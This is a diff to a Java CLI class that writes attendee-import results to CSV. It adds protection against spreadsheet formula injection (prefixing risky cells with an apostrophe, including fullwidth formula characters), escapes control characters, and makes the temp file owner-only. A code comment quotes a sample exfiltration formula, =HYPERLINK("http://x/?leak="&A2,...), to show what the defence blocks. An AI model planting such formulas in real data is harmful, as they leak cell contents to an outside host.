@@ -1,5 +1,6 @@
 package com.huiyi31.cli.imports;
 
+import com.huiyi31.cli.terminal.TerminalText;
 import java.io.IOException;
 import java.io.Writer;
 import java.nio.charset.StandardCharsets;
@@ -10,29 +11,82 @@ import java.nio.file.StandardCopyOption;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.function.UnaryOperator;
+import java.util.regex.Pattern;
 import org.apache.commons.csv.CSVFormat;
 
 /**
- * The result file: the input's columns exactly as given (it is the user's own data, so nothing is
- * masked), then status, orderNo, attendeeId, checkinCode and error. Written whole to a temporary
- * file and moved into place, so it is never half written; it starts with a byte order mark when
- * the input did (Excel then reads it as UTF-8).
+ * The result file: the input's columns, then status, orderNo, attendeeId, checkinCode and error.
+ * Written whole to a temporary file and moved into place, so it is never half written; it starts
+ * with a byte order mark when the input did (Excel then reads it as UTF-8).
+ *
+ * <p>Made safe to open in a spreadsheet unless the raw cells are asked for (--raw-csv), following
+ * OWASP's guidance on CSV injection: a cell that Excel, WPS or LibreOffice would take for a
+ * formula ({@code =HYPERLINK("http://x/?leak="&A2,"y")} in an attendee's name, or in what the
+ * platform sends back) gets a {@code '} in front, so that it shows as text. See
+ * {@link #forSpreadsheet}. The platform's values and messages also have their control characters
+ * escaped, as on the terminal ({@link TerminalText}). The input's cells are otherwise as given:
+ * nothing is masked, it is the user's own data.
  */
 final class ResultCsv {
 
   static final List<String> COLUMNS = List.of("status", "orderNo", "attendeeId", "checkinCode", "error");
 
+  /**
+   * What a spreadsheet takes for the start of a formula: OWASP's = + - @ tab and carriage return,
+   * and the fullwidth ＝ ＋ － ＠ that Chinese input methods type (WPS and Excel in Chinese take them
+   * for formulas too).
+   */
+  private static final String FORMULA_STARTS = "=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20";
+
+  /**
+   * A number, a negative number or a phone number (-5, -1.5, +86 139-1234-5678, (010) 1234): a
+   * spreadsheet may compute with it, but without a letter or a quote it can neither call a
+   * function nor refer to a cell, so it is kept as it is.
+   */
+  private static final Pattern INERT_NUMBER = Pattern.compile("[+-]?[0-9(][0-9 .,()%+-]*");
+
   private ResultCsv() {}
 
+  /**
+   * A cell as it can be opened in a spreadsheet: prefixed with {@code '} when its first character,
+   * or its first after leading white space, starts a formula (see {@link #FORMULA_STARTS}),
+   * unless the cell is an {@link #INERT_NUMBER}.
+   */
+  static String forSpreadsheet(String cell) {
+    if (cell == null || cell.isEmpty()) {
+      return cell;
+    }
+    int first = 0;
+    while (first < cell.length() && FORMULA_STARTS.indexOf(cell.charAt(first)) < 0 && blank(cell.charAt(first))) {
+      first++;
+    }
+    if (first == cell.length() || FORMULA_STARTS.indexOf(cell.charAt(first)) < 0) {
+      return cell;
+    }
+    return INERT_NUMBER.matcher(cell.strip()).matches() ? cell : "'" + cell;
+  }
+
+  private static boolean blank(char c) {
+    return Character.isWhitespace(c) || Character.isSpaceChar(c); // also the no-break and ideographic spaces
+  }
+
   /** One record, quoted where needed, CRLF-terminated (CSVFormat.DEFAULT, as Excel writes). */
-  private static void writeRecord(Writer writer, List<String> values) throws IOException {
-    writer.write(CSVFormat.DEFAULT.format(values.toArray()));
+  private static void writeRecord(Writer writer, List<String> values, boolean raw) throws IOException {
+    Object[] cells = raw ? values.toArray() : values.stream().map(ResultCsv::forSpreadsheet).toArray();
+    writer.write(CSVFormat.DEFAULT.format(cells));
     writer.write(CSVFormat.DEFAULT.getRecordSeparator());
   }
 
-  static void write(Path file, CsvInput input, Map<Integer, RowResult> results) throws IOException {
+  /**
+   * Writes the results of every row of {@code input}; {@code raw}: every cell exactly as it is
+   * (for programs, not spreadsheets), else made safe as described above.
+   */
+  static void write(Path file, CsvInput input, Map<Integer, RowResult> results, boolean raw) throws IOException {
+    UnaryOperator<String> platform = raw ? UnaryOperator.identity() : TerminalText::safe;
     Path directory = file.toAbsolutePath().getParent();
-    Path temporary = Files.createTempFile(directory, "." + file.getFileName(), ".tmp");
+    // Owner-only from the start (PrivateFiles): the results hold every attendee's data.
+    Path temporary = Files.createTempFile(directory, "." + file.getFileName(), ".tmp", PrivateFiles.ownerOnly(file));
     try {
       try (Writer writer = Files.newBufferedWriter(temporary, StandardCharsets.UTF_8)) {
         if (input.byteOrderMark()) {
@@ -40,16 +94,17 @@ final class ResultCsv {
         }
         List<String> header = new ArrayList<>(input.columns());
         header.addAll(COLUMNS);
-        writeRecord(writer, header);
+        writeRecord(writer, header, raw);
         for (CsvInput.Row row : input.rows()) {
           RowResult result = results.get(row.line());
           List<String> record = new ArrayList<>(row.values());
           record.add(result.status());
-          record.add(result.orderNo());
-          record.add(result.attendeeId());
-          record.add(result.checkinCode());
-          record.add(result.error());
-          writeRecord(writer, record);
+          // The platform's values and messages, escaped as on the terminal: `cat` shows the file too.
+          record.add(platform.apply(result.orderNo()));
+          record.add(platform.apply(result.attendeeId()));
+          record.add(platform.apply(result.checkinCode()));
+          record.add(platform.apply(result.error()));
+          writeRecord(writer, record, raw);
         }
       }
       try {
